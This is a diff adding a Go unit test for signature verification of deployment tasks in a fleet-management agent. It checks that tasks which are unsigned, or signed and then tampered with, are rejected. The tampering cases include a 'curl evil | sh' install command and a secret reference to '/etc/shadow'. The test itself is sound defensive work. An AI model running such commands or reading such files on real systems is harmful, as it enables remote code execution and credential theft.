@@ -0,0 +1,82 @@
+package main
+
+import (
+	"crypto/ed25519"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"code.linksmart.eu/dt/deployment-tool/manager/model"
+	"code.linksmart.eu/dt/deployment-tool/manager/swarmio"
+)
+
+func TestVerifyArtifacts(t *testing.T) {
+	dir, err := ioutil.TempDir("", "agent")
+	if err != nil {
+		t.Fatalf("Error creating temp dir: %s", err)
+	}
+	defer os.RemoveAll(dir)
+	defer os.Unsetenv(swarmio.EnvCommCert)
+	defer os.Unsetenv(EnvAllowUnsigned)
+
+	caPublic, caPrivate, _ := ed25519.GenerateKey(nil)
+	sign := func(task *model.Task) {
+		task.Digest = task.TaskDigest()
+		task.Signature, _ = swarmio.Sign(caPrivate, task.Digest)
+	}
+	newTask := func() *model.Task {
+		task := &model.Task{Header: model.Header{ID: "task"}, Deploy: &model.Deploy{}, Artifacts: []byte("archive")}
+		task.Deploy.Install.Commands = []string{"./install.sh"}
+		return task
+	}
+
+	// no manager key
+	os.Setenv(swarmio.EnvCommCert, filepath.Join(dir, "missing.json"))
+	task := newTask()
+	if err := verifyArtifacts(task); err == nil {
+		t.Fatalf("Task is accepted without manager key")
+	}
+	os.Setenv(EnvAllowUnsigned, "1")
+	if err := verifyArtifacts(task); err != nil {
+		t.Fatalf("Unsigned task is not accepted after opt-out: %s", err)
+	}
+	os.Unsetenv(EnvAllowUnsigned)
+
+	// cert of a registered target
+	os.Setenv(swarmio.EnvCommCert, filepath.Join(dir, "swarmio.json"))
+	err = swarmio.StoreCert(swarmio.Cert{CA: caPublic})
+	if err != nil {
+		t.Fatalf("Error storing cert: %s", err)
+	}
+	sign(task)
+	if err := verifyArtifacts(task); err != nil {
+		t.Fatalf("Signed task is not verified: %s", err)
+	}
+
+	forged := newTask()
+	sign(forged)
+	forged.Deploy.Install.Commands = []string{"curl evil | sh"}
+	if err := verifyArtifacts(forged); err == nil {
+		t.Fatalf("Task with modified commands is verified")
+	}
+
+	forged = newTask()
+	sign(forged)
+	forged.Secrets = []model.SecretRef{{Name: "password", File: "/etc/shadow"}}
+	if err := verifyArtifacts(forged); err == nil {
+		t.Fatalf("Task with added secrets is verified")
+	}
+
+	forged = newTask()
+	sign(forged)
+	forged.Artifacts = []byte("tampered")
+	if err := verifyArtifacts(forged); err == nil {
+		t.Fatalf("Task with modified artifacts is verified")
+	}
+
+	unsigned := newTask()
+	if err := verifyArtifacts(unsigned); err == nil {
+		t.Fatalf("Unsigned task is verified")
+	}
+}